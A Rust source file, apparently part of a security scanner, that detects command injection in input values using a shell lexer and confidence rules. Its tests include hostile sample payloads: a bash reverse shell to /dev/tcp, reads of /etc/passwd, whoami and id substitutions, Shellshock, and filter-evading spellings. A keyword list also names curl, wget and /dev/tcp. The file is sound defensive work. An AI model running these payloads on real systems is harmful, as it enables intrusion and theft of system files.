//! Command injection: a value that ends its place in a shell line and begins a command of its own.
//!
//! A small shell lexer finds the places where a command can begin: behind a separator, a substitution, a
//! newline. What stands there is read as a shell reads it (quotes and empty expansions inside a word vanish) and
//! looked up. A word that is also English counts only with a flag, a path or a tight separator; a line that
//! begins with a command of its own is what developers type, and is judged only by what no developer does.

mod around;
mod disguise;
mod lexer;
mod phrases;
mod whole;
mod words;

use super::finding::{Hit, Rule, Severity, ThreatType};
use crate::text::cursor::{at, find_byte, floor, has_word, is_word, part, skip, skip_most};
use crate::text::glance::Glance;
use around::{
    has_trailing, is_code, is_code_end, is_shell_line, is_table, known_argument, reads_system, strong,
    width_one,
};
use lexer::{Argument, argument, command_behind};
use words::Class;

const fn rule(id: &'static str, severity: Severity, message: &'static str) -> Rule {
    Rule::new(id, ThreatType::CommandInjection, severity, "CWE-78", message)
}

static SEPARATOR: Rule = rule("command.separator", Severity::High, "a separator begins a command of its own");
static SUBSTITUTION: Rule = rule("command.substitution", Severity::High, "a substitution runs a command");
static SHELL: Rule = rule(
    "command.remote_shell",
    Severity::Critical,
    "a command that hands a shell to the network or destroys the system",
);
static CALL: Rule = rule("command.system_call", Severity::High, "a call that runs a shell command");
static BATCH: Rule = rule("command.batch", Severity::Medium, "a line of a Windows batch file");
static DISGUISED: Rule =
    rule("command.disguised", Severity::High, "a command spelled so that a filter does not see it");
static BARE: Rule =
    rule("command.bare", Severity::Medium, "a command that explores or delays, where data is expected");
static PROTOCOL: Rule =
    rule("command.mail_protocol", Severity::Medium, "a line break and a command of a mail protocol");

/// Finds commands where data is expected.
pub(super) fn detect(glance: &Glance<'_>, hits: &mut Vec<Hit>, steps: &mut u64) {
    let text = glance.text;
    *steps += text.len() as u64;
    let before = hits.len();
    phrases::calls(glance, hits);
    phrases::remote(glance, hits);
    separators(glance, hits, steps);
    if hits.len() == before {
        whole::batch(text, hits);
        disguise::disguised(glance, hits);
        whole::bare(text, hits);
        whole::protocol(text, hits);
    }
}

/// Finds only what hands over the machine, for a string inside a source file.
pub(super) fn detect_strict(glance: &Glance<'_>, hits: &mut Vec<Hit>, steps: &mut u64) {
    let text = glance.text;
    *steps += text.len() as u64;
    phrases::remote(glance, hits);
    let mut found = Vec::new();
    let start = text.trim_start_matches(['"', '\'', ' ', '\\', 'n']);
    // A script substitutes all day; exploring the machine or fetching something is another matter.
    let explores = || glance.contains_any(&["whoami", "/etc/", "curl ", "wget ", "uname -a", "/dev/tcp"]);
    if start.starts_with([';', '|', '&']) || (start.starts_with('`') || text.starts_with("$(")) && explores()
    {
        separators(glance, &mut found, steps);
    }
    if start.starts_with([';', '|', '&'])
        || text.starts_with("() {") && (text.contains(";};") || text.contains("; };"))
    {
        phrases::calls(glance, &mut found);
    }
    hits.extend(found.into_iter().filter(|hit| hit.confidence >= 0.8));
}

/// Commands behind separators, line breaks and inside substitutions.
fn separators(glance: &Glance<'_>, hits: &mut Vec<Hit>, steps: &mut u64) {
    if !glance.has_any(b";\n|&\\`$<>'\"{") {
        return;
    }
    let text = glance.text;
    let bytes = text.as_bytes();
    let mut left = 0;
    let mut index = 0;
    // A line that begins as a command line is one to its end.
    let mut shell_line = false;
    let mut blank = 0;
    while index < bytes.len() {
        *steps += 1;
        let byte = at(bytes, index);
        let next = at(bytes, index + 1);
        let (rule, width) = match byte {
            b';' | b'\n' => (&SEPARATOR, 1),
            b'|' | b'&' => (&SEPARATOR, 1 + usize::from(next == byte)),
            b'\\'
                if matches!(next, b'n' | b'r')
                    && (index == 0 || !is_word(at(bytes, index - 1)))
                    && !is_word(at(bytes, index + 3)) =>
            {
                (&SEPARATOR, 2)
            }
            b'`' => (&SUBSTITUTION, 1),
            b'$' if next == b'(' => (&SUBSTITUTION, 2),
            b'<' | b'>' if next == b'(' => (&SUBSTITUTION, 2),
            b'\'' | b'"' if index == 0 && matches!(next, b' ' | b'i' | b'/') => (&SEPARATOR, 1),
            b'{' if next != b'{'
                && !at(bytes, index.wrapping_sub(1)).is_ascii_alphanumeric()
                && at(bytes, index.wrapping_sub(1)) != b'$' =>
            {
                (&DISGUISED, 1)
            }
            _ => {
                index += 1;
                continue;
            }
        };
        let from = index + width;
        shell_line =
            byte != b'\n' && (shell_line || rule.id == SEPARATOR.id && is_shell_line(text, left, index));
        if !shell_line && let Some(sure) = judge(text, left, index, from, &mut blank, rule) {
            let end = skip(bytes, from, |byte| !matches!(byte, b'\n')).min(floor(text, index + 256));
            hits.push(Hit::new(rule, index..end, sure));
            index = end.max(from);
        } else {
            index = from;
        }
        left = from;
    }
}

/// How sure a command begins behind a separator.
fn judge(
    text: &str,
    left: usize,
    sign: usize,
    from: usize,
    blank: &mut usize,
    rule: &'static Rule,
) -> Option<f32> {
    let bytes = text.as_bytes();
    let found = command_behind(text, from, blank)?;
    let arguments = argument(text, found.end);
    let tight = from < bytes.len() && !at(bytes, from).is_ascii_whitespace();
    let separator = at(bytes, sign);
    if rule.id == DISGUISED.id {
        // `{cat,/etc/passwd}`: a brace expansion instead of blanks.
        return (at(bytes, found.end) == b','
            && at(bytes, skip_most(bytes, found.end, 128, |byte| byte != b'}' && byte != b' ')) == b'}')
            .then_some(0.9);
    }
    if rule.id == SUBSTITUTION.id {
        let harmless = matches!(found.class, Class::Developer)
            || [
                "pwd", "date", "dirname", "basename", "hostname", "which", "nproc", "uname", "cat", "id -u",
                "ls", "head", "find",
            ]
            .iter()
            .any(|word| has_word(bytes, from, word))
                && separator != b'`'
                && is_shell_line(text, left.min(sign), sign);
        let closed = separator != b'`'
            || find_byte(bytes, from, b'`').is_some_and(|end| end - from < 512)
            || at(bytes, sign.wrapping_sub(1)) == b';';
        let believed = found.class == Class::Sharp || found.rooted || arguments != Argument::Plain && tight;
        return (!harmless && closed && believed && !is_shell_line(text, 0, sign)).then_some(0.85);
    }
    if found.class == Class::Developer || is_table(text, sign) {
        return None;
    }
    // `&copy;` is a character.
    if separator == b'&' && tight && at(bytes, found.end) == b';' {
        return None;
    }
    let line_break = separator == b'\n';
    let empty = part(text, left..sign).trim().is_empty();
    // A new line begins a command only if it cannot be the next sentence or the next line of code.
    if line_break {
        let alone =
            part(text, from..text.len()).lines().next().unwrap_or("").trim().len() <= found.end - from + 2;
        let probing = found.rooted
            || arguments == Argument::Typical && reads_system(text, found.end)
            || alone && (empty && text.len() < 32 || found.class == Class::Sharp && text.len() < 48);
        return probing.then_some(0.75);
    }
    if matches!(separator, b'\'' | b'"') {
        return (found.class == Class::Sharp && arguments == Argument::End
            || found.class == Class::English && text.len() <= 6 && text.ends_with(['\'', '"']))
        .then_some(0.6);
    }
    let glued = at(bytes, sign.wrapping_sub(1));
    // `string|date` is a type, `a&id=1` a parameter.
    let typed =
        separator == b'|' && width_one(bytes, sign) && is_word(glued) && !has_trailing(bytes, found.end);
    match (found.class, arguments) {
        (_, _) if found.rooted || found.disguised => Some(0.95),
        (Class::Sharp, Argument::End) => Some(if tight || empty { 0.9 } else { 0.7 }),
        (Class::Sharp, Argument::Typical) => Some(0.9),
        (Class::English, Argument::Typical) if !is_code(text, found.end) => {
            Some(if empty || tight { 0.85 } else { 0.6 })
                .filter(|_| empty || tight || separator != b'&' || strong(text, found.end))
        }
        (Class::English, Argument::End) if (tight && !typed || empty && sign < 4) && glued != b' ' => (tight
            || empty && text.trim().len() < 16)
            .then_some(0.75)
            .filter(|_| !is_code_end(text, found.end)),
        (Class::Sharp, Argument::Plain)
            if empty && sign < 4 || words::class(part(text, left..sign).trim()) == Some(Class::English) =>
        {
            Some(0.7)
        }
        (Class::English, Argument::Plain) if empty && sign < 3 && known_argument(text, found.end) => {
            Some(0.7)
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::threat::rules;

    fn found(text: &str) -> Option<&'static str> {
        rules(detect, text).next()
    }

    #[test]
    fn commands_in_values_are_found() {
        assert_eq!(found("127.0.0.1; cat /etc/passwd"), Some("command.separator"));
        assert_eq!(found("a;id"), Some("command.separator"));
        assert_eq!(found("x | whoami"), Some("command.separator"));
        assert_eq!(found("$(whoami)"), Some("command.substitution"));
        assert_eq!(found("`id`"), Some("command.substitution"));
        assert_eq!(found("x;c\\at /x"), Some("command.separator"));
        assert_eq!(found("{cat,/etc/hosts}"), Some("command.disguised"));
        assert_eq!(found("cat$IFS/x"), Some("command.disguised"));
        assert_eq!(found("/???/b??h"), Some("command.disguised"));
        assert_eq!(found("bash -i >& /dev/tcp/10.0.0.1/80 0>&1"), Some("command.remote_shell"));
        assert_eq!(found("() { :;}; echo x"), Some("command.remote_shell"));
        assert_eq!(found("system('id');"), Some("command.system_call"));
        assert_eq!(found("FOR %i IN (1,2) DO echo %i"), Some("command.batch"));
    }

    #[test]
    fn what_developers_type_is_left_alone() {
        for text in [
            "npm install && npm test",
            "cd src && ls -la | grep foo",
            "git log --oneline | head -5",
            "run ps aux | grep node; then kill it",
            "if (a && b || c) { return; }",
            "first sort them; then find the last",
            "| id | name |\n|----|------|\n| 1 | x |",
            "type A = string|date",
            "curl -s https://example.org | jq .",
            "x > 5 && y < 3",
            "echo $(git rev-parse HEAD)",
            "docker ps -q | xargs docker rm",
            "src/**/*.ts and /api/users/*",
            "rm -rf node_modules && npm ci",
        ] {
            assert_eq!(found(text), None, "{text}");
        }
    }
}
